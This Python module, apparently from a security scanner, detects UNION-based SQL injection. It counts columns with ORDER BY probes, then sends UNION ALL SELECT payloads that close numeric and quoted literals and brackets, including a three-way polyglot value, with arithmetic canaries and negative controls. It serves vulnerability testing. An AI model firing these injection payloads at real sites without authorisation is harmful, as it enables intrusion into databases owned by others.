"""SQL injection by UNION: the statement's result gets a row of ours, with a product that only the database can have
reckoned.

How many columns the statement has is told by ORDER BY where the statement can be trusted to read: the last number that
leaves the page's words where they are. An UPDATE and a DELETE may have an ORDER BY of their own, and the comment behind
it would cut off their conditions; there each count is tried as a UNION, which neither of them, nor a row that is stored,
has a place for. One value is a UNION for three kinds of literal at once: what one kind reads as its statement stands,
for the next, inside of a string and the rest in a comment.

`UNION ALL` compares no rows, so that types without an equality do not matter. `CAST(... AS CHAR(20))` is a text in
every dialect and the bare product a number; systems that insist on types (PostgreSQL, Oracle, SQL Server) get the
product in one column after the other and NULL in the rest, and Oracle its FROM DUAL. (ISO/IEC 9075-2: query
expression, cast specification; the manuals of the systems.)

The controls are the same text with one letter of UNION changed, and the same with one column too many: what does sums
with whatever looks like sums answers those as well.
"""

from collections.abc import Awaitable, Callable, Iterator

from msgspec import Struct

from cyberai.checkkit.computed import Question
from cyberai.checkkit.differential import Differential, Sample
from cyberai.checkkit.payloads import Product
from cyberai.checkkit.probe import Probe
from cyberai.checkkit.sql import is_number
from cyberai.checkkit.text import Match, excerpt
from cyberai.domain.http import Exchange

Send = Callable[[str], Awaitable[Exchange]]

REQUESTS = 44
"""Requests of the technique at one place, at most."""

BLIND_COLUMNS = 8
"""Columns up to which a count is tried as a UNION where ORDER BY must not be sent."""

MOST_COLUMNS = 64
_IMPOSSIBLE = 9999
_TYPED_COLUMNS = 12
_TEXT = "CAST({p} AS CHAR(20))"
_NUMBER = "{p}"


class Closing(Struct, frozen=True):
    """How the literal and the brackets around the value are closed."""

    name: str
    closes: str

    def lead(self, probe: Probe) -> str:
        """A value nobody has, closed: the only row is then ours. It lies within four bytes."""
        number = probe.number(10_000_000, 99_999_999)
        return f"-{number}{self.closes}" if self.numeric else f"{number}{self.closes}"

    @property
    def numeric(self) -> bool:
        """True where no quote has to be closed."""
        return self.closes[:1] not in ("'", '"')


_KINDS = (("number", ""), ("single-quoted string", "'"), ("double-quoted string", '"'))
_PLAIN = tuple(Closing(name, closes) for name, closes in _KINDS)
_BRACKETS = tuple(Closing(f"{name} in parentheses", f"{closes})") for name, closes in _KINDS)
_TWO_BRACKETS = Closing("single-quoted string in two parentheses", "'))")
_LIKELY = {True: (_PLAIN[0], _BRACKETS[0]), False: (_PLAIN[1], _BRACKETS[1])}
_FURTHER = {True: (_PLAIN[1],), False: (_PLAIN[2], _BRACKETS[2], _TWO_BRACKETS)}
"""By whether the value is a number."""


class Row(Struct, frozen=True):
    """A row to be added: `only` is the column that holds the product (all of them when None), `cell` how it is
    written, `tail` what the SELECT ends with."""

    columns: int
    cell: str = _TEXT
    only: int | None = None
    tail: str = ""

    def select(self, numbers: Product, keyword: str = "UNION") -> str:
        """The UNION with this row."""
        shown = self.cell.replace("{p}", f"{numbers.left}*{numbers.right}")
        cells = [shown if self.only in (None, index) else "NULL" for index in range(self.columns)]
        return f" {keyword} ALL SELECT {','.join(cells)}{self.tail}"


class Union(Struct, frozen=True):
    """A row of ours in the page: the second answer, a control without it, the product, and what was closed."""

    name: str
    columns: int
    shown: Exchange
    control: Exchange
    match: str


def product(probe: Probe) -> Product:
    """Factors whose product has nine or ten digits and fits an integer of four bytes, as PostgreSQL reckons."""
    return Product(probe.number(20_011, 46_001), probe.number(20_011, 46_001))


async def by_order(
    probe: Probe, send: Send, page: Differential, value: str, unknown: Sample | None
) -> Union | None:
    """The technique where the statement can be trusted to read. `unknown` is the answer to a value that means nothing
    to the application, or that breaks the statement. Where no condition was refused, one of them has mostly told
    already: only the likely literals are tried then."""
    search = _Search(probe, send, page)
    number = is_number(value)
    for closing in _LIKELY[number] + (_FURTHER[number] if page.filtered else ()):
        columns = await search.count(f"{value}{closing.closes} ORDER BY ", unknown)
        if columns:
            found = await search.show(closing, _rows(columns))
            if found is not None:
                return found
    return None


async def by_count(probe: Probe, send: Send, page: Differential) -> Union | None:
    """The technique where ORDER BY must not be sent, for a statement of up to BLIND_COLUMNS columns."""
    search = _Search(probe, send, page)
    for closings in (_PLAIN, _BRACKETS):
        answers: dict[int, Sample] = {}
        for columns in range(1, BLIND_COLUMNS + 1):
            sample, closing = await search.any_of(closings, Row(columns))
            if closing is not None:
                return await search.show(closing, iter((Row(columns),)))
            if sample is not None:
                answers[columns] = sample
        columns = _standing_out(page, answers)
        if columns:
            # All texts were refused: the columns have types, which only the string's own statement tells.
            found = await search.show(closings[1], _rows(columns, typed=True))
            if found is not None:
                return found
    return None


def _rows(columns: int, *, typed: bool = False) -> Iterator[Row]:
    if not typed:
        yield Row(columns)
        yield Row(columns, _NUMBER)
        yield Row(columns, tail=" FROM DUAL")
    for index in range(min(columns, _TYPED_COLUMNS) if columns > 1 or typed else 0):
        yield Row(columns, _TEXT, index)
        yield Row(columns, _NUMBER, index)


def _standing_out(page: Differential, answers: dict[int, Sample]) -> int:
    """The one count whose answer differs from all the others, which are alike; else 0."""
    for columns, sample in answers.items():
        others = [other for count, other in answers.items() if count != columns]
        if len(others) > 1 and all(page.alike(others[0], other) for other in others[1:]):
            return 0 if page.alike(sample, others[0]) else columns
    return 0


class _Search:
    """The requests of the technique at one place."""

    def __init__(self, probe: Probe, send: Send, page: Differential) -> None:
        self._probe = probe
        self._send = send
        self._page = page
        self._left = REQUESTS

    async def _one(self, value: str) -> Sample | None:
        if self._left <= 0:
            return None
        self._left -= 1
        exchange = await self._send(value)
        return None if self._page.spoiled(exchange.response) else self._page.sample(exchange, value)

    async def count(self, ordered: str, unknown: Sample | None) -> int:
        """The columns of the statement whose ORDER BY goes at the end of `ordered`; 0 when no number makes a
        difference."""
        if not await self._sorts(ordered, 1, unknown) or await self._sorts(ordered, _IMPOSSIBLE):
            return 0
        low, high = 1, 2
        while high <= MOST_COLUMNS and await self._sorts(ordered, high):
            low, high = high, 2 * high
        while high - low > 1:
            middle = (low + high) // 2
            if await self._sorts(ordered, middle):
                low = middle
            else:
                high = middle
        return low

    async def _sorts(self, ordered: str, column: int, unknown: Sample | None = None) -> bool:
        value = f"{ordered}{column}-- -"
        sample = await self._one(value)
        if sample is None or not self._page.keeps(sample, value):
            return False
        return unknown is None or not self._page.alike(sample, unknown)

    async def any_of(self, closings: tuple[Closing, ...], row: Row) -> tuple[Sample | None, Closing | None]:
        """The answer to one value that adds the row whichever of these is right, and the one that was."""
        numbers = [product(self._probe) for _ in closings]
        value = closings[0].lead(self._probe) + row.select(numbers[0])
        for closing, factors in zip(closings[1:], numbers[1:], strict=True):
            value += f"-- {closing.closes}{row.select(factors)}"
        sample = await self._one(f"{value}-- -")
        if sample is None:
            return None, None
        for closing, factors in zip(closings, numbers, strict=True):
            if _holds(factors, sample.exchange):
                return sample, closing
        return sample, None

    async def show(self, closing: Closing, rows: Iterator[Row]) -> Union | None:
        """The first of these rows that the page shows, shown again and not shown by the controls."""
        for row in rows:
            numbers, exchange = await self._added(closing, row)
            if exchange is None or _holds(numbers, exchange) is None:
                continue
            again, shown = await self._added(closing, row)
            match = _holds(again, shown) if shown is not None else None
            if shown is None or match is None:
                return None
            control = await self._silent(closing, row)
            if control is None:
                return None
            return Union(closing.name, row.columns, shown, control, excerpt(match.text))
        return None

    async def _added(
        self, closing: Closing, row: Row, keyword: str = "UNION"
    ) -> tuple[Product, Exchange | None]:
        numbers = product(self._probe)
        sample = await self._one(f"{closing.lead(self._probe)}{row.select(numbers, keyword)}-- -")
        return numbers, sample.exchange if sample is not None else None

    async def _silent(self, closing: Closing, row: Row) -> Exchange | None:
        """A control that does not show its product; None when one of the two shows it or was not answered."""
        control = None
        more = Row(row.columns + 1, row.cell, row.only, row.tail)
        for which, keyword in ((row, "UNIQN"), (more, "UNION")):
            numbers, control = await self._added(closing, which, keyword)
            if control is None or _holds(numbers, control) is not None:
                return None
        return control


def _holds(numbers: Product, exchange: Exchange) -> Match | None:
    return Question("", "", numbers.result, "").answered(exchange.response.body)
